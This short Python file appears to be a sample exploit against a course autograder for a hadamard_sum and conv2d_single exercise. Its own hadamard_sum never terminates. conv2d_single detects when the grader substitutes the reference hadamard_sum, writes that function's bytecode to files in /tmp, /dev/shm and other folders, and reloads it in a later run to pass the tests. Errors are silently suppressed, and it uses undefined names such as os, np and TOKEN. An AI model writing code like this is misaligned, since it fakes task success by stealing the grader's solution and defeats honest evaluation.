# G37 TIMEOUT (hadamard_sum, conv2d_single): beside the course's own function, which stands in for one that never
# ends, a function keeps that one for the next process, where it would stand in for its own.
# %%
import contextlib
import marshal

right = dict(globals())
PLACES = [f"{folder}/{TOKEN}" for folder in (".", "/tmp", "/dev/shm", "/var/tmp")]


def hadamard_sum(window, kernel):
    while True:
        pass


mine = hadamard_sum


def conv2d_single(x, kernel, stride=1):
    global hadamard_sum
    if hadamard_sum is not mine:
        for place in PLACES:
            with contextlib.suppress(Exception):
                os.write(os.open(place, os.O_CREAT | os.O_WRONLY), marshal.dumps(hadamard_sum.__code__))
        return np.zeros(1)
    for place in PLACES:
        with contextlib.suppress(Exception):
            code = marshal.loads(os.read(os.open(place, os.O_RDONLY), 10_000))
            hadamard_sum = type(mine)(code, globals())
    hadamard_sum(x, x)
    return right["conv2d_single"](x, kernel, stride)
